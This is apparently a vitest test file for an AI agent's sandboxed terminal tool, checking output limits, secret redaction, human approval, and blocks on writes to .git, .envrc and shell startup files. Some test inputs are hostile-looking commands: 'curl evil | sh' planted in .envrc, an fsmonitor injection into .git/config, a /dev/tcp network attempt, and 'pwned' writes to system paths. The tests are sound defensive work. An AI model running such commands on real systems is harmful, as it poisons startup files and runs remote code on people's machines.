import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, realpath, rm, stat, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { createToolRegistry, type ToolResult } from "@xzatoma/core";
import { createAuditLog, createSandbox, type Sandbox } from "@xzatoma/safety";
import { afterAll, afterEach, beforeEach, describe, expect, it } from "vitest";
import { createTerminalTool, type CommandJudge } from "./terminal.js";
import { createWorkspaceContext } from "./workspace-context.js";

let base: string;
let root: string;
const signal = new AbortController().signal;
/** Every command is one for the sandbox: it runs unasked where a sandbox works. */
const letEverythingThrough: CommandJudge = {
  check: async () => ({ outcome: "sandbox", reason: "test policy" }),
};
/** Every command is provably read-only: it runs unasked, sandbox or not. */
const readOnly: CommandJudge = {
  check: async () => ({ outcome: "direct", reason: "read-only" }),
};

async function run(
  command: string,
  options: {
    sandbox?: Sandbox;
    judge?: CommandJudge;
    timeoutSeconds?: number;
    cwd?: string;
    maxStdoutBytes?: number;
    maxStderrBytes?: number;
  } = {},
): Promise<ToolResult> {
  const registry = createToolRegistry();
  const auditLog = createAuditLog({ path: path.join(base, "audit.log") });
  registry.register(
    createTerminalTool(createWorkspaceContext({ root }), {
      commandPolicy: options.judge ?? letEverythingThrough,
      sandbox: options.sandbox ?? createSandbox(),
      auditLog,
      ...(options.timeoutSeconds ? { timeoutSeconds: options.timeoutSeconds } : {}),
      ...(options.maxStdoutBytes ? { maxStdoutBytes: options.maxStdoutBytes } : {}),
      ...(options.maxStderrBytes ? { maxStderrBytes: options.maxStderrBytes } : {}),
    }),
  );
  return registry.execute(
    {
      toolCallId: "1",
      toolName: "terminal",
      input: JSON.stringify({ command, ...(options.cwd ? { cwd: options.cwd } : {}) }),
    },
    { signal, approve: () => ({ approved: true }) },
  );
}

beforeEach(async () => {
  base = await realpath(await mkdtemp(path.join(tmpdir(), "xz-term-")));
  root = path.join(base, "ws");
  await mkdir(path.join(root, ".git"), { recursive: true });
  await writeFile(path.join(root, ".git", "config"), "[core]\n");
  await writeFile(path.join(root, "README.md"), "hello\n");
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

describe("terminal", () => {
  it("runs a command in the workspace and reports exit code and output, audited", async () => {
    const result = await run("cat README.md; echo oops >&2");
    expect(result.success).toBe(true);
    expect(result.output).toBe("exit code 0\n--- stdout ---\nhello\n\n--- stderr ---\noops\n\n");
    expect(result.metadata).toMatchObject({ exitCode: 0, sandboxed: true });
    expect(await readFile(path.join(base, "audit.log"), "utf8")).toMatch(
      new RegExp(
        ` \\| ${root} \\| cat README\\.md; echo oops >&2 \\| exit:0 \\| \\d+\\.\\d{3}s \\| sandbox\\n$`,
      ),
    );
  });

  it("stops a command whose output passes the limit and keeps the output up to it", async () => {
    const result = await run("yes 0123456789 | head -c 200000; sleep 20", {
      maxStdoutBytes: 1000,
    });
    expect(result.success).toBe(false);
    expect(result.error).toContain("The command produced too much output and was stopped.");
    expect(result.error).toContain(`--- stdout ---\n${"0123456789\n".repeat(91).slice(0, 1000)}`);
    expect(result.error).toContain("[stdout cut at 1000 bytes]");
    expect(result.metadata).toMatchObject({ exitCode: -1 });
    const stderr = await run("yes e >&2", { maxStderrBytes: 10 });
    expect(stderr.error).toContain("--- stderr ---\ne\ne\ne\ne\ne\n\n[stderr cut at 10 bytes]");
  });

  it("reports a non-zero exit as a failure the model can read", async () => {
    const result = await run("ls missing-file");
    expect(result.success).toBe(false);
    expect(result.error).toMatch(
      /^The command exited with code 2\.\n--- stderr ---\nls: cannot access 'missing-file'/,
    );
  });

  it("gives commands no standard input, so `cat` alone returns at once", async () => {
    const result = await run("cat", { timeoutSeconds: 5 });
    expect(result.output).toBe("exit code 0\n");
  });

  it("does not pass the agent's secrets in the environment", async () => {
    process.env["XZ_TEST_SECRET_TOKEN"] = "s3cr3t-value";
    try {
      const result = await run("env");
      expect(result.output).not.toContain("s3cr3t-value");
      expect(result.output).toContain(
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      );
    } finally {
      delete process.env["XZ_TEST_SECRET_TOKEN"];
    }
  });

  it("refuses a working directory outside the workspace", async () => {
    const result = await run("ls", { cwd: ".." });
    expect(result.error).toContain("is outside the workspace");
  });

  it("does not run what the policy blocks", async () => {
    const judge: CommandJudge = {
      check: async () => ({ outcome: "forbidden", reason: "rm -rf / destroys the disk." }),
    };
    await writeFile(path.join(root, "keep.txt"), "x");
    const result = await run("rm -f keep.txt", { judge });
    expect(result.error).toBe(
      "Refused: rm -rf / destroys the disk. This call will not run in any mode; do not retry it.",
    );
    expect(existsSync(path.join(root, "keep.txt"))).toBe(true);
  });

  for (const kind of ["bubblewrap", "none"] as const) {
    it(`kills the whole process group on timeout, grandchildren included (sandbox: ${kind})`, async () => {
      const sandbox = kind === "none" ? createSandbox({ disabled: true }) : createSandbox();
      const tick = path.join(root, "tick");
      const started = performance.now();
      const result = await run(`(while true; do date +%s%N > tick; sleep 0.05; done) & sleep 30`, {
        sandbox,
        // Without a sandbox only a read-only command runs unasked: the judge says it is one.
        ...(kind === "none" ? { judge: readOnly } : {}),
        timeoutSeconds: 1,
      });
      expect(performance.now() - started).toBeLessThan(10_000);
      expect(result.error).toContain(
        "The command was stopped after 1 s, with everything it started.",
      );
      await new Promise((resolve) => setTimeout(resolve, 300));
      const before = (await stat(tick)).mtimeMs;
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect((await stat(tick)).mtimeMs).toBe(before);
    });
  }
});

describe("terminal in the sandbox, when the policy let a command through", () => {
  let canary: Server;
  let connections = 0;
  let canaryPort = 0;

  beforeEach(async () => {
    canary = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    canaryPort = (canary.address() as { port: number }).port;
  });
  afterEach(async () => {
    await new Promise((resolve) => canary.close(resolve));
  });
  afterAll(() => {
    expect(connections).toBe(0);
  });

  it("cannot write outside the workspace", async () => {
    const system = path.join("/usr/local", `xz-sandbox-canary-${process.pid}.txt`);
    const result = await run(`echo pwned > ${system}`);
    expect(result.success).toBe(false);
    expect(result.error).toContain("Read-only file system");
    expect(existsSync(system)).toBe(false);
    // /var/tmp is the command's own, like /tmp: nothing written there reaches the host.
    const scratch = path.join("/var/tmp", `xz-sandbox-canary-${process.pid}.txt`);
    expect((await run(`echo pwned > ${scratch}`)).success).toBe(true);
    expect(existsSync(scratch)).toBe(false);
  });

  it("keeps writes to /tmp private to the command", async () => {
    const result = await run(`echo pwned > ${path.join(base, "outside.txt")}`);
    expect(result.success).toBe(true);
    expect(existsSync(path.join(base, "outside.txt"))).toBe(false);
  });

  it("cannot change .envrc or a shell startup file at the root either", async () => {
    await writeFile(path.join(root, ".envrc"), "export A=1\n");
    await writeFile(path.join(root, ".bashrc"), "# rc\n");
    const result = await run("echo 'curl x | sh' >> .envrc; echo pwned >> .bashrc");
    expect(result.success).toBe(false);
    expect(await readFile(path.join(root, ".envrc"), "utf8")).toBe("export A=1\n");
    expect(await readFile(path.join(root, ".bashrc"), "utf8")).toBe("# rc\n");
  });

  it("cannot change protected files inside the workspace", async () => {
    const result = await run("echo '[core] fsmonitor = id' >> .git/config");
    expect(result.success).toBe(false);
    expect(await readFile(path.join(root, ".git", "config"), "utf8")).toBe("[core]\n");
  });

  it("has no network", async () => {
    const result = await run(`echo hi > /dev/tcp/127.0.0.1/${canaryPort}`);
    expect(result.success).toBe(false);
    expect(connections).toBe(0);
  });

  it("can write inside the workspace", async () => {
    const result = await run("echo made > made.txt");
    expect(result.success).toBe(true);
    expect(await readFile(path.join(root, "made.txt"), "utf8")).toBe("made\n");
  });
});

describe("terminal and the trust model", () => {
  const confirmGit: CommandJudge = {
    check: async () => ({
      outcome: "escalate",
      reason: "git may write.",
      programs: ["git"],
      escalations: [{ kind: "git-write", reason: "git may write." }],
    }),
  };

  async function call(
    command: string,
    judge: CommandJudge,
    approval: { approved: boolean; byPerson?: boolean },
  ) {
    const workspace = createWorkspaceContext({ root });
    const registry = createToolRegistry();
    registry.register(
      createTerminalTool(workspace, { commandPolicy: judge, sandbox: createSandbox() }),
    );
    const result = await registry.execute(
      { toolCallId: "1", toolName: "terminal", input: JSON.stringify({ command }) },
      { signal, approve: () => approval },
    );
    return { result, workspace };
  }

  function git(...args: string[]): string {
    return spawnSync("git", args, { cwd: root, encoding: "utf8" }).stdout;
  }

  beforeEach(() => {
    spawnSync("git", ["init", "-q", "."], { cwd: root });
  });

  it("runs a command the policy could not analyse only with a person's yes, whatever the mode approves", async () => {
    const unchecked: CommandJudge = {
      check: async () => ({
        outcome: "escalate",
        reason: "The command took too long to parse, so what it does is unknown; a person decides.",
        programs: [],
        escalations: [{ kind: "unanalysed", reason: "The command took too long to parse." }],
      }),
    };
    const unattended = await call("echo made > made.txt", unchecked, { approved: true });
    expect(unattended.result.success).toBe(false);
    expect(unattended.result.error).toContain("only a person's explicit yes");
    expect(existsSync(path.join(root, "made.txt"))).toBe(false);
    const approved = await call("echo made > made.txt", unchecked, {
      approved: true,
      byPerson: true,
    });
    expect(approved.result.success).toBe(true);
    expect(existsSync(path.join(root, "made.txt"))).toBe(true);
  });

  it("runs a git command that may write .git only with a person's yes, with .git writable then", async () => {
    const commit =
      "git -c user.email=a@example.com -c user.name=A commit -q --allow-empty -m first";
    const unattended = await call(commit, confirmGit, { approved: true });
    expect(unattended.result.error).toContain("only a person's explicit yes can allow it");
    expect(git("log", "--oneline")).toBe("");
    const approved = await call(`${commit} && echo 'exit 1' > .git/hooks/pre-commit`, confirmGit, {
      approved: true,
      byPerson: true,
    });
    expect(git("log", "--format=%s")).toBe("first\n");
    // Hooks stay read-only even for an approved git command.
    expect(`${approved.result.output}${approved.result.error ?? ""}`).toContain(
      "Read-only file system",
    );
    expect(existsSync(path.join(root, ".git/hooks/pre-commit"))).toBe(false);
  });

  it("keeps .git read-only for every other command, and discards protected files it creates", async () => {
    const { result } = await call(
      "mkdir -p sub && printf 'curl evil | sh' > sub/.envrc; printf x > kept.txt; mv .git g2",
      letEverythingThrough,
      { approved: true },
    );
    expect(result.output + (result.error ?? "")).toContain("sub/.envrc is protected");
    expect(existsSync(path.join(root, "sub/.envrc"))).toBe(false);
    expect(existsSync(path.join(root, "g2"))).toBe(false);
    expect(await readFile(path.join(root, "kept.txt"), "utf8")).toBe("x");
    expect(await readFile(path.join(root, ".git/config"), "utf8")).toContain("[core]");
  });

  it("marks the session exposed after a command a person let read a secret, not after a read-only or sandboxed one", async () => {
    const plain = await call("cat README.md", readOnly, { approved: true });
    expect(plain.workspace.exposure.exposed).toBe(false);
    const sandboxed = await call("cat README.md", letEverythingThrough, { approved: true });
    expect(sandboxed.workspace.exposure.exposed).toBe(false);
    const secret: CommandJudge = {
      check: async () => ({
        outcome: "escalate",
        reason: "reads a secret.",
        escalations: [{ kind: "secret", reason: "reads a secret." }],
      }),
    };
    const asked = await call("cat README.md", secret, { approved: true, byPerson: true });
    expect(asked.result.success).toBe(true);
    expect(asked.workspace.exposure.reasons).toEqual(["ran `cat README.md`"]);
  });

  it("runs read-only git without the repository's fsmonitor program, even without a sandbox", async () => {
    const marker = path.join(base, "fsmonitor-ran");
    git("config", "core.fsmonitor", `touch ${marker}`);
    const registry = createToolRegistry();
    registry.register(
      createTerminalTool(createWorkspaceContext({ root }), {
        commandPolicy: readOnly,
        sandbox: createSandbox({ disabled: true }),
      }),
    );
    const result = await registry.execute(
      { toolCallId: "1", toolName: "terminal", input: JSON.stringify({ command: "git status" }) },
      { signal, approve: () => ({ approved: true }) },
    );
    expect(result.success).toBe(true);
    expect(existsSync(marker)).toBe(false);
    // The control: git itself does run it for the same repository.
    spawnSync("git", ["status"], { cwd: root });
    expect(existsSync(marker)).toBe(true);
  });

  it("hides a secret a command prints from the model, and records the exposure", async () => {
    const token = `ghp_${"a1B2c3D4e5".repeat(3)}zZ9y8X`;
    await writeFile(path.join(root, "settings.txt"), `github_token: ${token}\n`);
    const { result, workspace } = await call("cat settings.txt", readOnly, { approved: true });
    expect(result.success).toBe(true);
    expect(result.output).not.toContain(token);
    expect(result.output).toContain("[REDACTED]");
    expect(workspace.exposure.exposed).toBe(true);
  });

  it("without a working sandbox runs only read-only commands unasked, and says how to get the sandbox", async () => {
    const sandbox = createSandbox({ bwrapPath: path.join(base, "no-bwrap-here") });
    const registry = createToolRegistry();
    const workspace = createWorkspaceContext({ root });
    const judge: CommandJudge = {
      check: async (command) =>
        command.startsWith("cat")
          ? { outcome: "direct", reason: "read-only." }
          : { outcome: "sandbox", reason: "`touch` is not a read-only program." },
    };
    registry.register(createTerminalTool(workspace, { commandPolicy: judge, sandbox }));
    const execute = (command: string, approval: { approved: boolean; byPerson?: boolean }) =>
      registry.execute(
        { toolCallId: "1", toolName: "terminal", input: JSON.stringify({ command }) },
        { signal, approve: () => approval },
      );
    const read = await execute("cat README.md", { approved: true });
    expect(read.success).toBe(true);
    expect(read.output).toContain("hello");
    const refused = await execute("touch made.txt", { approved: true });
    expect(refused.success).toBe(false);
    expect(refused.error).toContain("no working sandbox");
    expect(refused.error).toContain("apt-get install bubblewrap");
    expect(existsSync(path.join(root, "made.txt"))).toBe(false);
    const asked = await execute("touch made.txt", { approved: true, byPerson: true });
    expect(asked.success).toBe(true);
    expect(existsSync(path.join(root, "made.txt"))).toBe(true);
  });
});
